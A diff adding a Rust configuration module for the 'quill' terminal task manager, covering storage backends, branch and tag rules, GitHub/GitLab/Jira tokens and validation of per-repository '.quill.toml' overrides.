@@ -0,0 +1,1297 @@
+use crate::git::{self, Forge, GitContext};
+use crate::shared::{SharedConfig, SharedSource};
+use crate::pattern::glob_match;
+use crate::storage::TaskStatus;
+use crate::templates::TaskTemplate;
+use crate::{QuillError, Result};
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+pub enum StorageType {
+    #[default]
+    Local,
+    MongoDB,
+    /// Files committed to a branch of the current repository.
+    Git,
+    /// A `quill serve-sync` server.
+    Remote,
+}
+
+impl StorageType {
+    pub const ALL: [StorageType; 4] = [StorageType::Local, StorageType::MongoDB, StorageType::Git, StorageType::Remote];
+
+    pub fn label(&self) -> &'static str {
+        match self {
+            StorageType::Local => "Local",
+            StorageType::MongoDB => "MongoDB",
+            StorageType::Git => "Git branch",
+            StorageType::Remote => "Remote server",
+        }
+    }
+}
+
+/// How finely tasks are split into contexts within a repository.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
+pub enum ContextScope {
+    /// One task list per branch (`org:repo:branch`).
+    #[default]
+    Branch,
+    /// One task list shared by every branch of the repository (`org:repo:*`).
+    Repo,
+}
+
+/// What happens to the unfinished tasks of a branch when a branch is
+/// created from it.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum CarryPolicy {
+    /// The new branch starts with an empty list.
+    #[default]
+    Off,
+    /// The new branch gets its own copy of each unfinished task.
+    Copy,
+    /// The new branch gets one task listing the unfinished ones left behind.
+    Reference,
+}
+
+/// How task rows wider than the list are shown.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum LongTitles {
+    /// Cut off with `…`; the selected task's full title is shown below the list.
+    #[default]
+    Truncate,
+    /// Continued on as many lines as needed.
+    Wrap,
+}
+
+/// Colors of the TUI.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Theme {
+    /// Light text, for dark terminal backgrounds.
+    #[default]
+    Dark,
+    /// Dark text, for light terminal backgrounds.
+    Light,
+    /// No colors; highlights are shown in reverse video.
+    Mono,
+}
+
+/// The pane beside the task list showing the selected task in full.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct DetailsPaneConfig {
+    /// Shown at startup; `|` toggles it either way.
+    #[serde(default)]
+    pub enabled: bool,
+    /// Share of the width it takes, in percent.
+    #[serde(default = "default_details_width")]
+    pub width: u16,
+    /// Terminals narrower than this many columns hide it.
+    #[serde(default = "default_details_min_columns")]
+    pub min_columns: u16,
+}
+
+impl Default for DetailsPaneConfig {
+    fn default() -> Self {
+        Self { enabled: false, width: default_details_width(), min_columns: default_details_min_columns() }
+    }
+}
+
+fn default_details_width() -> u16 {
+    40
+}
+
+fn default_details_min_columns() -> u16 {
+    100
+}
+
+/// A part of the status line below the task list.
+#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum StatusSegment {
+    /// Organization, repository and branch of the current context.
+    Context,
+    /// Tasks listed per status.
+    Counts,
+    /// Active status and assignee filters.
+    Filter,
+    /// Sort order, unless manual.
+    Sort,
+    /// Storage backend and whether it is reachable.
+    Backend,
+    /// Whether the last change was saved.
+    Save,
+    /// The most used key bindings.
+    Help,
+}
+
+/// Segments of the status line, in order from each edge.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct StatusLineConfig {
+    #[serde(default = "default_status_left")]
+    pub left: Vec<StatusSegment>,
+    #[serde(default = "default_status_right")]
+    pub right: Vec<StatusSegment>,
+}
+
+impl Default for StatusLineConfig {
+    fn default() -> Self {
+        Self { left: default_status_left(), right: default_status_right() }
+    }
+}
+
+fn default_status_left() -> Vec<StatusSegment> {
+    vec![StatusSegment::Context, StatusSegment::Counts, StatusSegment::Filter, StatusSegment::Sort]
+}
+
+fn default_status_right() -> Vec<StatusSegment> {
+    vec![StatusSegment::Backend, StatusSegment::Save]
+}
+
+/// Maps branches matching `pattern` onto one shared context, or ignores them.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct BranchRule {
+    /// Wildcard pattern matched against the branch name, e.g. `hotfix/*`.
+    pub pattern: String,
+    /// Branch name that matching branches share their tasks under.
+    #[serde(default)]
+    pub context: Option<String>,
+    /// Matching branches get no task list of their own.
+    #[serde(default)]
+    pub ignore: bool,
+}
+
+/// Tags added to new tasks whose context and text match. A rule with both
+/// patterns needs both to match; a rule with neither never applies.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct TagRule {
+    /// Wildcard pattern matched against the context key `org:repo:branch`,
+    /// e.g. `acme:infra-*` for every branch of the `infra-*` repositories.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub context: Option<String>,
+    /// Wildcard pattern matched case-insensitively against the task text, e.g. `*flaky*`.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub text: Option<String>,
+    pub tags: Vec<String>,
+}
+
+impl TagRule {
+    pub fn matches(&self, context_key: &str, text: &str) -> bool {
+        if self.context.is_none() && self.text.is_none() {
+            return false;
+        }
+        self.context.as_ref().is_none_or(|pattern| glob_match(pattern, context_key))
+            && self.text.as_ref().is_none_or(|pattern| glob_match(&pattern.to_lowercase(), &text.to_lowercase()))
+    }
+}
+
+/// Keeps the tasks of matching repositories in another backend, e.g. the
+/// team MongoDB for `acme/*`. Settings left out are taken from the global ones.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct StorageRule {
+    /// Wildcard pattern matched against `org/repo`.
+    pub repo: String,
+    pub storage_type: StorageType,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub local_config: Option<LocalConfig>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub mongo_config: Option<MongoConfig>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub git_config: Option<GitStorageConfig>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub remote_config: Option<RemoteConfig>,
+}
+
+impl StorageRule {
+    /// Whether the rule says where to connect, not only which backend to use.
+    pub fn has_connection_settings(&self) -> bool {
+        self.local_config.is_some() || self.mongo_config.is_some() || self.git_config.is_some() || self.remote_config.is_some()
+    }
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct LocalConfig {
+    pub path: String,
+}
+
+impl Default for LocalConfig {
+    fn default() -> Self {
+        Self {
+            path: "~/.quill/storage/todos.json".to_string(),
+        }
+    }
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct MongoConfig {
+    /// May reference secrets kept elsewhere, see [`crate::secret`].
+    pub connection_string: String,
+    pub database: String,
+    pub collection: String,
+    /// Connect with TLS even when the connection string doesn't ask for it.
+    #[serde(skip_serializing_if = "std::ops::Not::not")]
+    pub tls: bool,
+    /// PEM file of the certificate authorities to trust, e.g. a corporate CA.
+    #[serde(skip_serializing_if = "String::is_empty")]
+    pub tls_ca_file: String,
+    /// PEM file with the client certificate and its key, for x.509 auth.
+    #[serde(skip_serializing_if = "String::is_empty")]
+    pub tls_cert_key_file: String,
+    /// Accept any server certificate; only for testing.
+    #[serde(skip_serializing_if = "std::ops::Not::not")]
+    pub tls_allow_invalid_certificates: bool,
+    /// e.g. `SCRAM-SHA-256`, `MONGODB-X509` or `PLAIN`; empty lets the
+    /// driver negotiate one.
+    #[serde(skip_serializing_if = "String::is_empty")]
+    pub auth_mechanism: String,
+    /// Database the user is defined in, e.g. `admin` or `$external`.
+    #[serde(skip_serializing_if = "String::is_empty")]
+    pub auth_source: String,
+    /// How long to wait for a usable server before giving up.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub server_selection_timeout_secs: Option<u64>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub max_pool_size: Option<u32>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub min_pool_size: Option<u32>,
+}
+
+impl MongoConfig {
+    /// The connection string with its secret references filled in.
+    pub fn uri(&self) -> Result<String> {
+        crate::secret::resolve(&self.connection_string)
+    }
+}
+
+/// Where git storage keeps its commits.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct GitStorageConfig {
+    /// Orphan branch holding one JSON file per context.
+    pub branch: String,
+    /// Remote used by `quill git pull` and `quill git push`.
+    pub remote: String,
+}
+
+impl Default for GitStorageConfig {
+    fn default() -> Self {
+        Self {
+            branch: "quill-tasks".to_string(),
+            remote: "origin".to_string(),
+        }
+    }
+}
+
+/// The `quill serve-sync` server used by remote storage.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct RemoteConfig {
+    /// Base URL of the server, e.g. `https://quill.example.com:7878`.
+    pub url: String,
+    /// Shared token, which may reference a secret (see [`crate::secret`]);
+    /// when empty `QUILL_REMOTE_TOKEN` is used.
+    #[serde(skip_serializing_if = "String::is_empty")]
+    pub token: String,
+}
+
+impl Default for RemoteConfig {
+    fn default() -> Self {
+        Self {
+            url: "http://localhost:7878".to_string(),
+            token: String::new(),
+        }
+    }
+}
+
+impl RemoteConfig {
+    /// The token with its secret references filled in.
+    pub fn resolve_token(&self) -> Result<Option<String>> {
+        if !self.token.is_empty() {
+            return crate::secret::resolve(&self.token).map(Some);
+        }
+        Ok(std::env::var("QUILL_REMOTE_TOKEN").ok().filter(|token| !token.is_empty()))
+    }
+}
+
+impl Default for MongoConfig {
+    fn default() -> Self {
+        Self {
+            connection_string: "mongodb://localhost:27017".to_string(),
+            database: "quill".to_string(),
+            collection: "tasks".to_string(),
+            tls: false,
+            tls_ca_file: String::new(),
+            tls_cert_key_file: String::new(),
+            tls_allow_invalid_certificates: false,
+            auth_mechanism: String::new(),
+            auth_source: String::new(),
+            server_selection_timeout_secs: None,
+            max_pool_size: None,
+            min_pool_size: None,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct GitHubConfig {
+    /// Personal access token, which may reference a secret; when empty
+    /// `QUILL_GITHUB_TOKEN` or `GITHUB_TOKEN` is used.
+    #[serde(skip_serializing_if = "String::is_empty")]
+    pub token: String,
+    pub api_url: String,
+}
+
+impl Default for GitHubConfig {
+    fn default() -> Self {
+        Self {
+            token: String::new(),
+            api_url: "https://api.github.com".to_string(),
+        }
+    }
+}
+
+impl GitHubConfig {
+    /// The token with its secret references filled in.
+    pub fn resolve_token(&self) -> Result<Option<String>> {
+        if !self.token.is_empty() {
+            return crate::secret::resolve(&self.token).map(Some);
+        }
+        Ok(["QUILL_GITHUB_TOKEN", "GITHUB_TOKEN"]
+            .iter()
+            .filter_map(|name| std::env::var(name).ok())
+            .find(|token| !token.is_empty()))
+    }
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct GitLabConfig {
+    /// Personal access token, which may reference a secret; when empty
+    /// `QUILL_GITLAB_TOKEN` or `GITLAB_TOKEN` is used.
+    #[serde(skip_serializing_if = "String::is_empty")]
+    pub token: String,
+    /// API root, e.g. `https://git.acme.internal/api/v4` for a self-hosted instance.
+    pub api_url: String,
+}
+
+impl Default for GitLabConfig {
+    fn default() -> Self {
+        Self {
+            token: String::new(),
+            api_url: "https://gitlab.com/api/v4".to_string(),
+        }
+    }
+}
+
+impl GitLabConfig {
+    /// The token with its secret references filled in.
+    pub fn resolve_token(&self) -> Result<Option<String>> {
+        if !self.token.is_empty() {
+            return crate::secret::resolve(&self.token).map(Some);
+        }
+        Ok(["QUILL_GITLAB_TOKEN", "GITLAB_TOKEN"]
+            .iter()
+            .filter_map(|name| std::env::var(name).ok())
+            .find(|token| !token.is_empty()))
+    }
+}
+
+/// A Jira project (and optionally epic) whose issues belong to matching contexts.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct JiraProject {
+    /// Wildcard pattern matched against the context key `org:repo:branch`.
+    pub context: String,
+    pub project: String,
+    /// Only issues under this epic are pulled, e.g. `WEB-100`.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub epic: Option<String>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct JiraConfig {
+    /// Site root, e.g. `https://acme.atlassian.net`; empty turns Jira sync off.
+    #[serde(skip_serializing_if = "String::is_empty")]
+    pub url: String,
+    /// Account email for Jira Cloud; when empty the token is sent as a
+    /// bearer token (Jira Server personal access tokens).
+    #[serde(skip_serializing_if = "String::is_empty")]
+    pub email: String,
+    /// API token, which may reference a secret; when empty `QUILL_JIRA_TOKEN` is used.
+    #[serde(skip_serializing_if = "String::is_empty")]
+    pub token: String,
+    /// Checked in order; the first project matching the context applies.
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub projects: Vec<JiraProject>,
+    /// Jira status names and the quill status each one means.
+    pub status_map: BTreeMap<String, TaskStatus>,
+}
+
+impl Default for JiraConfig {
+    fn default() -> Self {
+        Self {
+            url: String::new(),
+            email: String::new(),
+            token: String::new(),
+            projects: Vec::new(),
+            status_map: BTreeMap::from([
+                ("To Do".to_string(), TaskStatus::NotStarted),
+                ("In Progress".to_string(), TaskStatus::InProgress),
+                ("Done".to_string(), TaskStatus::Completed),
+            ]),
+        }
+    }
+}
+
+impl JiraConfig {
+    pub fn is_enabled(&self) -> bool {
+        !self.url.is_empty()
+    }
+
+    /// The token with its secret references filled in.
+    pub fn resolve_token(&self) -> Result<Option<String>> {
+        if !self.token.is_empty() {
+            return crate::secret::resolve(&self.token).map(Some);
+        }
+        Ok(std::env::var("QUILL_JIRA_TOKEN").ok().filter(|token| !token.is_empty()))
+    }
+
+    pub fn project_for(&self, context_key: &str) -> Option<&JiraProject> {
+        self.projects.iter().find(|p| glob_match(&p.context, context_key))
+    }
+
+    /// The quill status a Jira status name maps to, ignoring case.
+    pub fn status_for(&self, jira_status: &str) -> Option<TaskStatus> {
+        self.status_map
+            .iter()
+            .find(|(name, _)| name.eq_ignore_ascii_case(jira_status))
+            .map(|(_, status)| status.clone())
+    }
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct AppConfig {
+    #[serde(default)]
+    pub storage_type: StorageType,
+    #[serde(default)]
+    pub local_config: LocalConfig,
+    #[serde(default)]
+    pub mongo_config: MongoConfig,
+    #[serde(default)]
+    pub git_config: GitStorageConfig,
+    #[serde(default)]
+    pub remote_config: RemoteConfig,
+    /// Open-task count above which a context is flagged as oversized.
+    #[serde(default = "default_open_task_soft_limit")]
+    pub open_task_soft_limit: usize,
+    #[serde(default)]
+    pub templates: Vec<TaskTemplate>,
+    #[serde(default)]
+    pub context_scope: ContextScope,
+    /// Carries unfinished tasks into the list of a branch created from another.
+    #[serde(default)]
+    pub carry_tasks: CarryPolicy,
+    /// Tags applied to every newly added task.
+    #[serde(default)]
+    pub default_tags: Vec<String>,
+    /// Tags added automatically by context and text; every matching rule applies.
+    #[serde(default)]
+    pub tag_rules: Vec<TagRule>,
+    /// Checked in order; the first rule matching the branch applies.
+    #[serde(default)]
+    pub branch_rules: Vec<BranchRule>,
+    /// Checked in order; the first rule matching the repository picks its backend.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub storage_rules: Vec<StorageRule>,
+    /// Format string for `quill prompt`; see `prompt::render` for placeholders.
+    #[serde(default = "default_prompt_format")]
+    pub prompt_format: String,
+    /// Deleted tasks kept per context for undo and the trash view.
+    #[serde(default = "default_trash_retention", alias = "undo_depth")]
+    pub trash_retention: usize,
+    /// Bulk deletes or completions of more tasks than this ask for a typed
+    /// confirmation ("delete 14"); 0 never asks.
+    #[serde(default = "default_confirm_threshold")]
+    pub confirm_threshold: usize,
+    /// Key sequences that must be typed to run an action, by action name,
+    /// e.g. `complete_all = "cc"`; an empty sequence goes back to the single key.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub chords: BTreeMap<String, String>,
+    /// Print what changed during the session when the TUI exits.
+    #[serde(default)]
+    pub session_summary: bool,
+    #[serde(default)]
+    pub github: GitHubConfig,
+    #[serde(default)]
+    pub gitlab: GitLabConfig,
+    #[serde(default)]
+    pub jira: JiraConfig,
+    /// Where the team's shared tags, templates and rules come from.
+    #[serde(default)]
+    pub shared: SharedSource,
+    /// Self-hosted code hosts by hostname, e.g. `"git.acme.internal" = "gitlab"`,
+    /// so their remote URLs are read the way that forge lays them out.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub forges: BTreeMap<String, Forge>,
+    /// Command opening a task's file anchor, with `{file}` and `{line}`
+    /// placeholders, e.g. `code -g {file}:{line}`. Empty runs `$EDITOR +{line} {file}`.
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub editor_command: String,
+    /// Languages of quick-add due-date words, tried in order (`en`, `fr`, `de`, `es`).
+    #[serde(default = "default_date_locales")]
+    pub date_locales: Vec<String>,
+    /// Extra due-date words and what they stand for, e.g. `übermorgen = "+2d"`.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub date_words: BTreeMap<String, String>,
+    /// Saved filters offered by the view picker, by name, e.g.
+    /// `urgent = "priority:high and status!=completed"`.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub views: BTreeMap<String, String>,
+    #[serde(default)]
+    pub long_titles: LongTitles,
+    #[serde(default)]
+    pub theme: Theme,
+    #[serde(default)]
+    pub status_line: StatusLineConfig,
+    #[serde(default)]
+    pub details_pane: DetailsPaneConfig,
+}
+
+fn default_trash_retention() -> usize {
+    crate::storage::DEFAULT_TRASH_RETENTION
+}
+
+fn default_confirm_threshold() -> usize {
+    5
+}
+
+fn default_date_locales() -> Vec<String> {
+    vec!["en".to_string()]
+}
+
+fn default_prompt_format() -> String {
+    crate::prompt::DEFAULT_FORMAT.to_string()
+}
+
+fn default_open_task_soft_limit() -> usize {
+    50
+}
+
+impl Default for AppConfig {
+    fn default() -> Self {
+        Self {
+            storage_type: StorageType::Local,
+            local_config: LocalConfig::default(),
+            mongo_config: MongoConfig::default(),
+            git_config: GitStorageConfig::default(),
+            remote_config: RemoteConfig::default(),
+            open_task_soft_limit: default_open_task_soft_limit(),
+            templates: Vec::new(),
+            context_scope: ContextScope::default(),
+            carry_tasks: CarryPolicy::default(),
+            default_tags: Vec::new(),
+            tag_rules: Vec::new(),
+            branch_rules: Vec::new(),
+            storage_rules: Vec::new(),
+            prompt_format: default_prompt_format(),
+            trash_retention: default_trash_retention(),
+            confirm_threshold: default_confirm_threshold(),
+            session_summary: false,
+            github: GitHubConfig::default(),
+            gitlab: GitLabConfig::default(),
+            shared: SharedSource::default(),
+            forges: BTreeMap::new(),
+            jira: JiraConfig::default(),
+            chords: BTreeMap::new(),
+            editor_command: String::new(),
+            date_locales: default_date_locales(),
+            date_words: BTreeMap::new(),
+            views: BTreeMap::new(),
+            long_titles: LongTitles::default(),
+            theme: Theme::default(),
+            status_line: StatusLineConfig::default(),
+            details_pane: DetailsPaneConfig::default(),
+        }
+    }
+}
+
+impl AppConfig {
+    /// Loads `~/.quill/config.toml`, falling back to the legacy
+    /// `~/.quill/config.json`, then applies `QUILL_*` environment overrides.
+    /// Without a home directory only defaults and the environment are used.
+    pub fn load() -> Result<Self> {
+        let mut config = match Self::get_config_dir() {
+            Ok(dir) => Self::load_from_dir(&dir)?,
+            Err(_) => Self::default(),
+        };
+        config.apply_env_overrides(|name| std::env::var(name).ok())?;
+        Ok(config)
+    }
+
+    /// Whether a config file has been written; not on a first run.
+    pub fn exists() -> bool {
+        Self::get_config_dir().is_ok_and(|dir| dir.join("config.toml").exists() || dir.join("config.json").exists())
+    }
+
+    fn load_from_dir(dir: &Path) -> Result<Self> {
+        let toml_path = dir.join("config.toml");
+        if toml_path.exists() {
+            let content = fs::read_to_string(&toml_path)?;
+            return toml::from_str(&content)
+                .map_err(|e| QuillError::Validation(format!("Invalid {}: {}", toml_path.display(), e)));
+        }
+
+        let json_path = dir.join("config.json");
+        if json_path.exists() {
+            let content = fs::read_to_string(&json_path)?;
+            return Ok(serde_json::from_str(&content)?);
+        }
+
+        Ok(Self::default())
+    }
+
+    /// Writes the config as TOML. A legacy `config.json` is left in place
+    /// but is ignored from then on.
+    pub fn save(&self) -> Result<()> {
+        let path = Self::get_config_dir()?.join("config.toml");
+        
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        
+        let content = toml::to_string_pretty(self)?;
+        fs::write(&path, content)?;
+        Ok(())
+    }
+
+    /// Applies `QUILL_STORAGE_TYPE`, `QUILL_LOCAL_PATH`, `QUILL_MONGO_URI`,
+    /// `QUILL_MONGO_DATABASE`, `QUILL_MONGO_COLLECTION` and `QUILL_REMOTE_URL`.
+    fn apply_env_overrides(&mut self, var: impl Fn(&str) -> Option<String>) -> Result<()> {
+        if let Some(value) = var("QUILL_STORAGE_TYPE") {
+            self.storage_type = match value.to_lowercase().as_str() {
+                "local" => StorageType::Local,
+                "mongodb" | "mongo" => StorageType::MongoDB,
+                "git" => StorageType::Git,
+                "remote" => StorageType::Remote,
+                other => return Err(QuillError::Validation(format!("Invalid QUILL_STORAGE_TYPE '{}': expected 'local', 'mongodb', 'git' or 'remote'", other))),
+            };
+        }
+        if let Some(path) = var("QUILL_LOCAL_PATH") {
+            self.local_config.path = path;
+        }
+        if let Some(uri) = var("QUILL_MONGO_URI") {
+            self.mongo_config.connection_string = uri;
+        }
+        if let Some(database) = var("QUILL_MONGO_DATABASE") {
+            self.mongo_config.database = database;
+        }
+        if let Some(collection) = var("QUILL_MONGO_COLLECTION") {
+            self.mongo_config.collection = collection;
+        }
+        if let Some(url) = var("QUILL_REMOTE_URL") {
+            self.remote_config.url = url;
+        }
+        Ok(())
+    }
+
+    /// Loads the global config with the last fetched shared config under it
+    /// and the current repository's `.quill.toml` layered on top.
+    pub fn load_effective() -> Result<Self> {
+        let config = Self::load()?;
+        let shared = SharedConfig::cached(&config.shared);
+        let project = ProjectConfig::discover()?;
+        Ok(config.with_shared(shared.as_ref()).with_project(project.as_ref()))
+    }
+
+    /// Returns a copy of this config with the team's shared settings merged
+    /// underneath: local branch and storage rules are tried first, tag rules
+    /// add up, and local default tags, templates and Jira statuses win over
+    /// shared ones of the same name.
+    pub fn with_shared(&self, shared: Option<&SharedConfig>) -> Self {
+        let mut merged = self.clone();
+        let Some(shared) = shared else {
+            return merged;
+        };
+
+        if merged.default_tags.is_empty() {
+            merged.default_tags = shared.default_tags.clone();
+        }
+        merged.tag_rules = shared.tag_rules.iter().chain(&self.tag_rules).cloned().collect();
+        merged.branch_rules.extend(shared.branch_rules.iter().cloned());
+        merged.storage_rules.extend(shared.storage_rules.iter().cloned());
+        for template in &shared.templates {
+            if !merged.templates.iter().any(|t| t.name == template.name) {
+                merged.templates.push(template.clone());
+            }
+        }
+        for (jira_status, status) in &shared.status_map {
+            merged.jira.status_map.entry(jira_status.clone()).or_insert_with(|| status.clone());
+        }
+        merged
+    }
+
+    /// Returns a copy of this config with the project overrides applied.
+    pub fn with_project(&self, project: Option<&ProjectConfig>) -> Self {
+        let mut merged = self.clone();
+        let Some(project) = project else {
+            return merged;
+        };
+
+        if let Some(storage_type) = &project.storage_type {
+            merged.storage_type = storage_type.clone();
+        }
+        if let Some(mongo_config) = &project.mongo_config {
+            merged.mongo_config = mongo_config.clone();
+        }
+        // The remote stays the user's choice, as `quill git` runs against it
+        if let Some(git_config) = &project.git_config {
+            merged.git_config.branch = git_config.branch.clone();
+        }
+        if let Some(context_scope) = project.context_scope {
+            merged.context_scope = context_scope;
+        }
+        if let Some(carry_tasks) = project.carry_tasks {
+            merged.carry_tasks = carry_tasks;
+        }
+        if let Some(default_tags) = &project.default_tags {
+            merged.default_tags = default_tags.clone();
+        }
+        merged.tag_rules.extend(project.tag_rules.iter().cloned());
+        if let Some(branch_rules) = &project.branch_rules {
+            merged.branch_rules = branch_rules.clone();
+        }
+        for template in &project.templates {
+            merged.templates.retain(|t| t.name != template.name);
+            merged.templates.push(template.clone());
+        }
+        merged
+    }
+
+    /// Tags for a new task: the default tags followed by those of every
+    /// matching tag rule, without duplicates.
+    pub fn tags_for(&self, context_key: &str, text: &str) -> Vec<String> {
+        let mut tags: Vec<String> = Vec::new();
+        let rule_tags = self
+            .tag_rules
+            .iter()
+            .filter(|rule| rule.matches(context_key, text))
+            .flat_map(|rule| rule.tags.iter());
+        for tag in self.default_tags.iter().chain(rule_tags) {
+            if !tags.contains(tag) {
+                tags.push(tag.clone());
+            }
+        }
+        tags
+    }
+
+    /// Maps a detected git context onto the context its tasks are stored
+    /// under. Returns `None` when a branch rule ignores the branch.
+    pub fn resolve_context(&self, mut context: GitContext) -> Option<GitContext> {
+        if let Some(rule) = self.branch_rules.iter().find(|r| glob_match(&r.pattern, &context.branch)) {
+            if rule.ignore {
+                return None;
+            }
+            if let Some(shared) = &rule.context {
+                context.branch = shared.clone();
+            }
+        }
+
+        if self.context_scope == ContextScope::Repo {
+            context.branch = "*".to_string();
+        }
+        Some(context)
+    }
+
+    /// The chords in effect: `delete = "dd"` unless configured otherwise,
+    /// plus the configured ones.
+    pub fn chord_bindings(&self) -> BTreeMap<String, String> {
+        let mut chords = BTreeMap::from([("delete".to_string(), "dd".to_string())]);
+        chords.extend(self.chords.clone());
+        chords.retain(|_, keys| !keys.is_empty());
+        chords
+    }
+
+    /// Index of the storage rule that applies to `context`'s repository.
+    pub fn storage_rule(&self, context: &GitContext) -> Option<usize> {
+        let repo = format!("{}/{}", context.org, context.repo);
+        self.storage_rules.iter().position(|rule| glob_match(&rule.repo, &repo))
+    }
+
+    /// The config with the storage rule for `context` applied, so
+    /// `storage::open` opens the backend that context's tasks live in.
+    pub fn for_context(&self, context: &GitContext) -> Self {
+        let mut config = self.clone();
+        let Some(rule) = self.storage_rule(context).map(|i| &self.storage_rules[i]) else {
+            return config;
+        };
+        config.storage_type = rule.storage_type.clone();
+        if let Some(local_config) = &rule.local_config {
+            config.local_config = local_config.clone();
+        }
+        if let Some(mongo_config) = &rule.mongo_config {
+            config.mongo_config = mongo_config.clone();
+        }
+        if let Some(git_config) = &rule.git_config {
+            config.git_config = git_config.clone();
+        }
+        if let Some(remote_config) = &rule.remote_config {
+            config.remote_config = remote_config.clone();
+        }
+        config
+    }
+
+    pub(crate) fn get_config_dir() -> Result<PathBuf> {
+        let mut path = dirs::home_dir()
+            .ok_or_else(|| QuillError::StorageUnavailable("Could not find home directory".to_string()))?;
+        path.push(".quill");
+        Ok(path)
+    }
+
+    pub fn expand_local_path(&self) -> String {
+        if self.local_config.path.starts_with("~/") {
+            if let Some(home) = dirs::home_dir() {
+                return self.local_config.path.replacen("~", &home.to_string_lossy(), 1);
+            }
+        }
+        self.local_config.path.clone()
+    }
+}
+
+/// Per-repository settings read from `.quill.toml` at the repository root.
+/// Every field is optional and overrides the global config when present.
+/// There is no `remote_config`: the sync server's URL comes with the user's
+/// token, so a cloned repository mustn't pick it. For the same reason
+/// `load_from` refuses files setting `local_config` or MongoDB's TLS and
+/// credential options.
+#[derive(Debug, Clone, Default, Deserialize)]
+pub struct ProjectConfig {
+    pub storage_type: Option<StorageType>,
+    /// Always refused; where tasks are written locally is the user's choice.
+    pub local_config: Option<LocalConfig>,
+    /// Connection string, database, collection, `tls`, timeouts and pool
+    /// sizes only.
+    pub mongo_config: Option<MongoConfig>,
+    /// Only the branch is taken; the remote is the global config's.
+    pub git_config: Option<GitStorageConfig>,
+    pub context_scope: Option<ContextScope>,
+    pub carry_tasks: Option<CarryPolicy>,
+    pub default_tags: Option<Vec<String>>,
+    /// Added after the global rules.
+    #[serde(default)]
+    pub tag_rules: Vec<TagRule>,
+    pub branch_rules: Option<Vec<BranchRule>>,
+    #[serde(default)]
+    pub templates: Vec<TaskTemplate>,
+}
+
+impl ProjectConfig {
+    pub const FILE_NAME: &'static str = ".quill.toml";
+
+    /// Reads `.quill.toml` from the root of the repository containing the
+    /// current directory. Returns `None` outside a repository or without the file.
+    pub fn discover() -> Result<Option<Self>> {
+        match git::repo_root() {
+            Some(root) => Self::load_from(&root.join(Self::FILE_NAME)),
+            None => Ok(None),
+        }
+    }
+
+    pub fn load_from(path: &Path) -> Result<Option<Self>> {
+        if !path.exists() {
+            return Ok(None);
+        }
+        let content = fs::read_to_string(path)?;
+        let project: Self = toml::from_str(&content)
+            .map_err(|e| QuillError::Validation(format!("Invalid {}: {}", path.display(), e)))?;
+        project.check(&path.display().to_string())?;
+        Ok(Some(project))
+    }
+
+    /// Refuses settings a cloned repository mustn't choose for the user:
+    /// which file local storage writes, how MongoDB's server is trusted and
+    /// what it is authenticated with, and secret references.
+    fn check(&self, origin: &str) -> Result<()> {
+        if self.local_config.is_some() {
+            return Err(QuillError::Validation(format!("{} can't set local_config; set it in ~/.quill/config.toml", origin)));
+        }
+        if let Some(mongo_config) = &self.mongo_config {
+            let refused = [
+                ("tls_allow_invalid_certificates", mongo_config.tls_allow_invalid_certificates),
+                ("tls_ca_file", !mongo_config.tls_ca_file.is_empty()),
+                ("tls_cert_key_file", !mongo_config.tls_cert_key_file.is_empty()),
+                ("auth_mechanism", !mongo_config.auth_mechanism.is_empty()),
+                ("auth_source", !mongo_config.auth_source.is_empty()),
+            ];
+            if let Some((field, _)) = refused.iter().find(|(_, set)| *set) {
+                return Err(QuillError::Validation(format!(
+                    "{} can't set mongo_config.{}; set it in ~/.quill/config.toml",
+                    origin, field
+                )));
+            }
+            // Secrets are only filled in from the user's own config
+            crate::secret::forbid_references(&mongo_config.connection_string, origin)?;
+        }
+        Ok(())
+    }
+}
+
+#[cfg(test)]
